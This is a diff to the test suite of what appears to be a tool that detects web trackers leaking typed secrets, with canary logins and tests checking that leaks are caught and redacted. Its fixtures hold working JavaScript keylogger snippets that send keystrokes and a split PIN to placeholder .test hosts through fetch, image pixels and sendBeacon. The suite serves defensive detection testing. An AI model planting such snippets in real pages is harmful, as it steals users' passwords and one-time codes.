@@ -289,8 +289,8 @@ secrets:
   email: "{canary:email}"
   password: "{canary:password}"
 steps:
-  - type: {selector: "#email", text: "{email}", delay: 5}
-  - type: {selector: "#password", text: "{password}", delay: 5}
+  - type: {selector: "#email", text: "{email}", delay: 60}
+  - type: {selector: "#password", text: "{password}", delay: 60}
   - wait: 300
   - submit: "#login-form"
   - expect: {text: "Welcome back"}
@@ -304,8 +304,8 @@ secrets:
   otp: "{canary:otp}"
   pin: "{canary:pin}"
 steps:
-  - type: {selector: "#otp", text: "{otp}", delay: 5}
-  - type: {selector: "#pin", text: "{pin}", delay: 5}
+  - type: {selector: "#otp", text: "{otp}", delay: 60}
+  - type: {selector: "#pin", text: "{pin}", delay: 60}
   - wait: 300
   - submit: "#otp-form"
   - expect: {text: "Welcome back"}
@@ -321,8 +321,9 @@ TRACKERS: dict[str, str] = {
     # the `code` of each key, one fetch per key.
     "code-values": """addEventListener('keydown', (e) =>
         fetch('https://code.test/k', {method: 'POST', body: JSON.stringify({code: e.code}), keepalive: true}), true);""",
-    # keypress charCode, one pixel per key.
-    "char-codes": """addEventListener('keypress', (e) => { new Image().src = 'https://cc.test/p.gif?c=' + e.charCode; }, true);""",
+    # keypress charCode, one pixel per key (numbered: the browser would not fetch one picture twice).
+    "char-codes": """(() => { let n = 0; addEventListener('keypress', (e) => {
+        new Image().src = 'https://cc.test/p.gif?c=' + e.charCode + '&n=' + n++; }, true); })();""",
     # a 6-digit code, half to one host and half to another.
     "two-hosts": """addEventListener('input', (e) => { const v = e.target.value; if (e.target.id !== 'pin' || v.length !== 6) return;
         navigator.sendBeacon('https://half-a.test/c?p=' + v.slice(0, 3)); navigator.sendBeacon('https://half-b.test/c?q=' + v.slice(3)); }, true);""",
@@ -360,9 +361,9 @@ def leaky_runs(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPath
     )
     assert status == ExitStatus.CHECK_FAILED, out.getvalue() + err.getvalue()
     runs: list[dict[str, Any]] = json.loads((folder / "r" / "results.json").read_text())["runs"]
-    # The stored traffic never shows pieces of a value: they are withheld.
+    # Neither the stored traffic nor a finding shows pieces of a value: they are withheld.
     for run in runs:
-        stored = (folder / "r" / run["dir"] / "traffic.json").read_text()
+        stored = (folder / "r" / run["dir"] / "traffic.json").read_text() + json.dumps(run["findings"])
         assert not re.search(r"\d{3}\.\d{3}\.dns\.test|half-[ab]\.test/c\?[pq]=\d", stored), run["file"]
     return runs
 
@@ -373,4 +374,4 @@ def test_leaky_tracker_is_caught(leaky_runs: list[dict[str, Any]], tracker: str)
     findings = [f for run in leaky_runs for f in run["findings"]]
     caught = [f for f in findings if (f["field"], f["where"].split(" over ")[0], f["variant"]) == (field, where, variant)]
     assert caught, sorted({(f["field"], f["where"], f["variant"], f["url"]) for f in findings})
-    assert all(any(host in f["url"] for host in hosts) for f in caught)
+    assert all(any(host in f["url"] for host in hosts) or "⟦fp:" in f["url"] for f in caught), caught
